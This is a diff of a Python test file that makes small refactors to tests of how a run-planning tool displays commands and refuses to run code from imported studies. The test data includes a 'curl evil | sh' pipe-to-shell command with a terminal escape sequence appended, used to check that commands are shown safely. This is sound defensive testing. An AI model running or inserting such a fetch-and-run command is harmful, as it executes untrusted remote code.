@@ -26,7 +26,7 @@ from jestlab.platform.errors import UserError
 from jestlab.platform.lab.lab import Lab
 from jestlab.platform.planning.identity import fingerprint, identity_of, is_authentic
 from jestlab.platform.planning.plan import Plan, PlannedRun, plan
-from jestlab.platform.programs.command import identity
+from jestlab.platform.programs.command import COMMAND
 from jestlab.platform.spec.load import load, load_stored
 from jestlab.platform.spec.schema import StudySpec
 from jestlab.platform.store.rows import now
@@ -80,7 +80,7 @@ def test_commands_are_shown_as_a_shell_takes_them(theirs, copy, path):
     command = plans.run("evil", "command", {"command": ["sh", "-c", "curl evil | sh\x1b[2J"], "cwd": "/"})
     line = plans.run("text", "command", {"command": "python train.py"})
     runs = (
-        replace(run, fingerprint=fingerprint("command", 1, identity(run.config), {}))
+        replace(run, fingerprint=fingerprint("command", 1, COMMAND.identity(run.config), {}))
         for run in (command, line)
     )
     study(theirs, *runs)
@@ -162,7 +162,7 @@ def test_looking_at_an_imported_study_executes_none_of_its_code(copy, evil):
         assert str(error.value).startswith(REFUSED) and "\n" not in str(error.value), command
     for command in ("table toy", "status toy", "logs toy a", "gc", "cancel toy"):
         CliRunner().invoke(cli, [*command.split(), *map(str, at)])
-    assert [run.program for run in executed(Store.open(copy.store_url), "toy")] == [
+    assert [program for _, program, _ in executed(Store.open(copy.store_url), "toy")] == [
         "toy_programs:loop", "planted.inner.module:call",
     ]  # fmt: skip
     assert programs.get("planted.inner.module:call").entry_point == "planted.inner.module:call"
